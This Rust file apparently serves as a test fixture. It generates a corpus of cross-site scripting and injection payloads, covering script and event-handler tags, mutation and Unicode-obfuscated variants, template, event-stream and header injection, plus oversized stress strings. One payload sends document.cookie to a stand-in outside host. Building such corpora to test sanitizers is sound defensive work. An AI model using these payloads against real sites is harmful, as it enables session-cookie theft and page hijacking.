//! Texts that try to be more than text: markup, attributes, templates, directions, sizes. None says anything.

/// Calls that a payload would like to make: a dialog, and a request to elsewhere.
const DEEDS: &[&str] = &["alert(1)", "fetch('https://elsewhere.invalid/'+document.cookie)", "document.title='taken'"];

/// Each holds `DEED` once.
const SHAPES: &[&str] = &[
    "<script>DEED</script>", "<img src=x onerror=\"DEED\">", "<svg onload=\"DEED\">", "\"><svg/onload=DEED>", "'><img src=x onerror=DEED>",
    "</p></article><script>DEED</script>", "<iframe srcdoc=\"<script>DEED</script>\"></iframe>", "<a href=\"javascript:DEED\">x</a>",
    "<math><mtext></table><img src=x onerror=\"DEED\">", "<noscript><p title=\"</noscript><img src=x onerror=DEED>\">", "<!--><script>DEED</script>-->",
    "<style>@import 'https://elsewhere.invalid/DEED'</style>", "<link rel=stylesheet href=https://elsewhere.invalid/DEED>", "<base href=https://elsewhere.invalid/DEED/>",
    "<meta http-equiv=refresh content=\"0;url=https://elsewhere.invalid/DEED\">", "<form action=https://elsewhere.invalid><button onclick=DEED>x", "<object data=\"javascript:DEED\">",
    "<video><source onerror=\"DEED\">", "<details open ontoggle=DEED>", "<input autofocus onfocus=DEED>", "{{ DEED }}{% raw %}", "${DEED}", "&lt;script&gt;DEED&lt;/script&gt;",
    "&#60;script&#62;DEED&#60;/script&#62;", "\u{fe64}script\u{fe65}DEED\u{fe64}/script\u{fe65}", "\u{202e}>tpircs<\u{202c}DEED", "<scr\u{200b}ipt>DEED</script>", "<x/\u{feff}onclick=DEED>",
    "<table background=//elsewhere.invalid/DEED>", "<img srcset=\"//elsewhere.invalid/DEED 1x\">", "<svg><use href=\"//elsewhere.invalid/DEED#a\"/></svg>", "<svg><animate onbegin=DEED attributeName=x>",
    "]]><script>DEED</script>", "event: live\ndata: <script>DEED</script>\n\n", "\n\nevent: locked\ndata: DEED\n\n", "\r\nLocation: https://elsewhere.invalid/DEED\r\n\r\n",
];

/// All payloads: every shape with every deed, alone and in the middle of a sentence, and some that are only large.
pub fn all() -> Vec<String> {
    let mut all = Vec::new();
    for shape in SHAPES {
        for deed in DEEDS {
            let one = shape.replace("DEED", deed);
            all.push(format!("before {one} after"));
            all.push(one);
        }
    }
    all.push("x".repeat(60_000));
    all.push("<b>".repeat(20_000));
    all.push(format!("e{}", "\u{301}".repeat(30_000)));
    all.push("\u{202e}\u{2066}".repeat(5_000));
    all
}
